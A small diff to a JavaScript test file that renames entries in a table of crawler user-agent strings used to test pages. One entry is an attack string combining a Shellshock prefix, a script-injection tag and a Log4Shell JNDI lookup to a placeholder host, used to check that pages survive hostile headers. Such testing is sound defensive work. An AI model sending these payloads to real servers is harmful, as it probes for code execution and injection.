@@ -22,8 +22,8 @@ const agents = {
   Facebook: "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
   Slack: "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
   curl: "curl/8.5.0",
-  nothing: "",
-  nonsense: "() { :; }; echo <script>alert(1)</script> ${jndi:ldap://x.invalid}",
+  "a client without a name": "",
+  "a client with an attack as its name": "() { :; }; echo <script>alert(1)</script> ${jndi:ldap://x.invalid}",
 };
 
 describe.each([...pages, "/nope", "/about.data"])("%s", (path) => {
